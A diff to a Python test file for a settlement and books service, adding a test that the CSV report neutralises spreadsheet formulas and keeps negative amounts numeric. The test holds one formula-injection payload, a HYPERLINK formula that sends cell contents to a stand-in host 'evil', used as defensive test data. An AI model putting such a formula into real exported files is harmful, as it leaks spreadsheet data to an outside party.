@@ -3,7 +3,9 @@ fire at exactly 80 % and 100 % of the declared budget, each logged once (SQLite 
 
 from __future__ import annotations
 
+import csv
 import logging
+from dataclasses import replace
 from datetime import timedelta
 from decimal import Decimal
 from pathlib import Path
@@ -12,6 +14,7 @@ import pytest
 from sqlalchemy import text
 
 from exchange.books.budget import BudgetLevel
+from exchange.books.report import csv_lines
 from exchange.errors import ExchangeError
 from exchange.ledger.accounts import AccountKind
 from exchange.loading import load_directory
@@ -98,6 +101,17 @@ async def test_the_books_tie_out_to_the_ledger(
     for program in PROGRAMS:
         statement = await settlement.statement(program, "2026-11")
         assert (await books.partner_books(program, "2026-11")).figures.money_net == statement.net, program
+
+
+async def test_the_csv_neutralises_text_a_spreadsheet_would_run_and_keeps_negative_amounts_numbers(
+    settlement: SettlementService, books: BooksService
+) -> None:
+    await post(settlement, [conversion("c1", "wallet-pay", "formosa-air", 160_000, 3_200, points=(10_000, 4_000))])
+    hostile = '=HYPERLINK("http://evil/?"&A1,"click")'
+    found = replace(await books.partner_books("wallet-pay", "2026-11"), partner=hostile)
+    rows = list(csv.reader(csv_lines(found)))
+    assert {row[0] for row in rows[1:]} == {"'" + hostile}
+    assert ["money_net", "", "-1600.00", "TWD"] in [row[2:] for row in rows]
 
 
 async def test_an_unknown_partner_or_a_malformed_period_is_refused(books: BooksService) -> None:
